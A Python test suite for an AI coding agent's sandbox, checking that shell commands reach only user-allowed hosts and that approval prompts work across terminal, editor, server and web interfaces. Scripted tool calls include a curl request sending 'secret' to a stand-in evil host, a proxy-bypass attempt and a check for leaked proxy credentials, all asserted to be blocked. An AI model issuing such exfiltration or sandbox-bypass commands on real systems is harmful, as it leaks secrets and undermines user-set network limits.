"""Commands in the sandbox reach the hosts that the user allows, beforehand or when asked, and no others."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import AbstractContextManager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.end_to_end.test_sandbox import ground
from tests.fakes.acp_client import editor
from tests.fakes.command import run_wolo
from tests.fakes.provider_server import ProviderServer
from tests.fakes.replies import call, calls, text
from tests.fakes.screen import pty_wolo
from tests.frontends.server.running_server import Server, kind, running
from tests.frontends.server.test_web_page import all_of, browser, say, shown, wait
from tests.guard.sandbox_setup import Ground
from wolo.places import find_places

__all__ = ["ground"]
DOMAINS = ("--set", 'sandbox.allowed_domains=["packages.example.com", "*.example.org"]')
GET, HELLO = "curl -sS http://packages.example.com/", "hello from http://packages.example.com/"


class Internet(BaseHTTPRequestHandler):
    """Stands for every host, as the user's own proxy."""

    def do_GET(self) -> None:
        body = f"hello from {self.path}\n".encode()
        self.send_response(200)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        self.server.asked.append(self.path)  # type: ignore[attr-defined]  # of the test


@pytest.fixture
def internet(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Requests that reached it."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Internet)
    asked: list[str] = []
    server.asked = asked  # type: ignore[attr-defined]  # read above
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    monkeypatch.setenv("HTTP_PROXY", f"http://name:secret-word@127.0.0.1:{server.server_port}")
    monkeypatch.setenv("NO_PROXY", "127.0.0.1,localhost")  # for clients of `wolo serve`
    yield asked
    server.shutdown()
    thread.join()
    server.server_close()


def shell(command: str, **more: object) -> object:
    return call("shell", {"command": command, **more})


def test_only_allowed_hosts_are_reached_and_recorded(provider: ProviderServer, ground: Ground, internet: list[str]) -> None:
    commands = (
        f"{GET}; curl -sS http://a.example.org/x",
        "curl -sS http://evil.example/?secret",
        f"unset http_proxy HTTP_PROXY all_proxy ALL_PROXY; {GET}",
        "env | grep -c secret-word",
    )
    provider.script(calls(*(("shell", {"command": command}) for command in commands)), text("ok"))
    done = run_wolo("--json", *DOMAINS, *provider.flags, "go")
    reached, refused, without, env = provider.requests[1].results
    assert reached == "hello from http://packages.example.com/\nhello from http://a.example.org/x\n[exit 0]\n"
    assert "sandbox denied: no connection to evil.example:80 (sandbox.allowed_domains does not have it)" in refused
    assert "sandbox denied: inside the sandbox there is no network" in without
    assert env.startswith("0\n")
    assert internet == ["http://packages.example.com/", "http://a.example.org/x"]
    assert done.exit_code == 0
    rows = [json.loads(line) for line in run_wolo("audit", "export").stdout.splitlines()]
    listed = [row["connections"] for row in rows if "connections" in row]
    assert [(each["host"], each["port"], each["allowed"]) for each in listed[0]] == [
        ("packages.example.com", 80, True),
        ("a.example.org", 80, True),
    ]
    assert all(each["bytes"] > 40 for each in listed[0])
    assert listed[1:] == [[{"host": "evil.example", "port": 80, "allowed": False, "bytes": 0}]]


def test_nobody_to_ask_means_no_network(provider: ProviderServer, ground: Ground, internet: list[str]) -> None:
    provider.script(shell(f"{GET} --max-time 5; echo ${{https_proxy-none}}"), text("ok"))
    run_wolo("-p", *provider.flags, "go")
    (result,) = provider.requests[1].results
    assert "\nnone\n" in result
    assert "sandbox denied: inside the sandbox there is no network" in result
    assert internet == []


def test_user_is_asked_before_the_command_fails(provider: ProviderServer, ground: Ground, internet: list[str]) -> None:
    provider.script(shell(f"{GET} | cat; {GET}"), shell(GET), text("Well."))
    with pty_wolo("--sandbox", "auto", *provider.flags, "go on", rows=40, columns=150) as terminal:
        terminal.wait_for("Let this command connect to packages.example.com?")
        terminal.wait_for("[y]es, for this command")
        assert internet == []
        terminal.enter("s")
        assert terminal.wait_for_exit() == 0
    first, second = (provider.requests[number].results[-1] for number in (1, 2))
    assert first == "hello from http://packages.example.com/\n" * 2 + "[exit 0]\n"
    assert second == "hello from http://packages.example.com/\n[exit 0]\n"


def test_yes_holds_for_one_command(provider: ProviderServer, ground: Ground, internet: list[str]) -> None:
    provider.script(shell(GET), shell(GET), text("Well."))
    with pty_wolo("--sandbox", "auto", *provider.flags, "go on", rows=40, columns=150) as terminal:
        terminal.wait_for("[y]es, for this command")
        terminal.enter("y")
        terminal.wait_until(lambda: terminal.text.count("[y]es, for this command") == 2)
        terminal.enter("")
        assert terminal.wait_for_exit() == 0
        assert not terminal.shows("Run it outside?")
    assert internet == ["http://packages.example.com/"]
    assert (
        "sandbox denied: no connection to packages.example.com:80 (the user did not allow it)" in provider.requests[2].results[-1]
    )


def test_denied_host_is_not_asked_about(provider: ProviderServer, ground: Ground, internet: list[str]) -> None:
    provider.script(shell(f"{GET}; curl -sS http://a.example.org/"), text("Well."))
    denied = ("--set", 'sandbox.denied_domains=["*.example.com"]')
    with pty_wolo("--sandbox", "auto", *DOMAINS, *denied, *provider.flags, "go on", rows=40, columns=150) as terminal:
        assert terminal.wait_for_exit() == 0
    assert internet == ["http://a.example.org/"]
    assert "packages.example.com:80 (sandbox.denied_domains has it)" in provider.requests[1].results[0]


def test_verification_reaches_allowed_hosts(provider: ProviderServer, ground: Ground, internet: list[str]) -> None:
    provider.script(call("write", {"path": "new", "content": "x"}), text("ok"))
    run_wolo("-p", "--verify", GET, *DOMAINS, *provider.flags, "go")
    assert set(internet) == {"http://packages.example.com/"}


def test_panel_takes_a_yes_for_the_session(provider: ProviderServer, ground: Ground, internet: list[str]) -> None:
    provider.script(shell(GET), shell(GET), text("Well."))
    with pty_wolo("--sandbox", "auto", *provider.flags, rows=40, columns=100) as terminal:
        terminal.wait_for("›")
        terminal.enter("go on")
        terminal.wait_for("Let this command connect to packages.example.com?")
        terminal.wait_for("2 Yes, for this session")
        terminal.type("2")
        terminal.wait_for("Well.")
    assert internet == ["http://packages.example.com/"] * 2


@pytest.mark.parametrize("is_panel", [True, False])
def test_question_ends_with_its_command(provider: ProviderServer, ground: Ground, internet: list[str], is_panel: bool) -> None:
    provider.script(shell(f"{GET} --max-time 1"), text("Well."))
    first = () if is_panel else ("go on",)
    with pty_wolo("--sandbox", "auto", *provider.flags, *first, rows=40, columns=100) as terminal:
        if is_panel:
            terminal.wait_for("›")
            terminal.enter("go on")
        terminal.wait_for("Let this command connect to packages.example.com?")
        terminal.wait_for("Well.")
    assert internet == []
    assert "no connection to packages.example.com:80 (the user has not answered)" in provider.requests[1].results[0]


def test_job_reaches_allowed_hosts(provider: ProviderServer, ground: Ground, internet: list[str]) -> None:
    provider.script(
        shell(f"{GET}; curl -sS http://evil.example/; echo done", background=True),
        call("jobs", {"action": "wait", "id": 1, "pattern": "done", "wait_s": 20}),
        text("ok"),
    )
    run_wolo("-p", *DOMAINS, *provider.flags, "go")
    printed = "".join(result for request in provider.requests[1:3] for result in request.results)
    assert "hello from http://packages.example.com/" in printed
    assert "wolo: no connection to evil.example:80: sandbox.allowed_domains does not have it." in printed
    assert internet == ["http://packages.example.com/"]


@pytest.mark.parametrize("entry", ["https://packages.example.com", "*.*", "10.0.0.0/8"])
def test_unusable_domain_is_one_sentence(provider: ProviderServer, entry: str) -> None:
    done = run_wolo("-p", "--set", f'sandbox.allowed_domains=["{entry}"]', *provider.flags, "go")
    assert done.exit_code == 2
    assert f'sandbox.allowed_domains: "{entry}" cannot be used:' in done.stderr
    assert provider.requests == []


QUESTION = "It wants to connect to packages.example.com, which sandbox.allowed_domains does not have."


def results(provider: ProviderServer) -> list[str]:
    return [request.results[-1].splitlines()[0] for request in provider.requests[1:]]


@pytest.mark.parametrize("chosen", ["session", "once", "reject"])
async def test_editor_answers_about_a_host(provider: ProviderServer, ground: Ground, internet: list[str], chosen: str) -> None:
    provider.script(shell(GET), shell(GET), text("Well."))
    async with editor("--sandbox", "auto", *provider.flags) as client:
        client.choose = lambda call, options: chosen
        session = await client.new(ground.work)
        await client.say(session.session_id, "go on")
    asked, options = client.asked[0]
    assert QUESTION in str(asked.content)
    assert {"session": "allow_always", "once": "allow_once", "reject": "reject_once"}[chosen] in [each.kind for each in options]
    assert len(client.asked) == {"session": 1, "once": 2, "reject": 1}[chosen]
    assert internet == ["http://packages.example.com/"] * (0 if chosen == "reject" else 2)
    assert all((HELLO in each) == (chosen != "reject") for each in results(provider))


def sandboxed(provider: ProviderServer) -> AbstractContextManager[Server]:
    folder = find_places().config
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "config.toml").write_text('sandbox.backend = "auto"\n')
    return running(provider)


@pytest.mark.parametrize("chosen", ["session", "once", "no"])
def test_server_is_answered_about_a_host(provider: ProviderServer, ground: Ground, internet: list[str], chosen: str) -> None:
    provider.script(shell(GET), shell(GET), text("Well."))
    with sandboxed(provider) as server:
        id = server.new()
        events = server.events(id)
        server.prompt(id, "go on")
        asked = events.wait(lambda line: kind(line) == "approval")
        assert QUESTION in json.dumps(asked)
        assert internet == []
        server.post(f"/v1/sessions/{id}/approve", call_id=asked["call_id"], decision=chosen)
        if chosen == "once":
            again = events.wait(lambda line: kind(line) == "approval" and line["call_id"] != asked["call_id"])
            server.post(f"/v1/sessions/{id}/approve", call_id=again["call_id"], decision="no")
        events.result()
        assert len(events.of("approval")) == (2 if chosen == "once" else 1)
    assert internet == ["http://packages.example.com/"] * {"session": 2, "once": 1, "no": 0}[chosen]


def test_attached_terminal_answers_about_a_host(provider: ProviderServer, ground: Ground, internet: list[str]) -> None:
    provider.script(shell(GET), shell(GET), text("Well."))
    with sandboxed(provider) as server:
        done = run_wolo("attach", server.address, "--new", stdin="go on\ns\n")
    assert done.stdout.count("packages.example.com, which sandbox.allowed_domains does not have") == 1, done.stdout
    assert done.stdout.endswith("Well.\n")
    assert internet == ["http://packages.example.com/"] * 2


def test_page_answers_about_a_host(provider: ProviderServer, ground: Ground, internet: list[str]) -> None:
    provider.script(shell(GET), shell(GET), text("Well."))
    with sandboxed(provider) as server, browser() as driver:
        driver.get(server.address)
        wait(driver, lambda: "What shall we do?" in shown(driver))
        say(driver, "go on")
        button = wait(driver, lambda: all_of(driver, "[data-decision=session]")[0])
        assert "packages.example.com" in driver.find_element("id", "asks").text
        button.click()
        wait(driver, lambda: "Well." in shown(driver))
    assert [each for each in internet if "example.com" in each] == ["http://packages.example.com/"] * 2  # the browser asks too
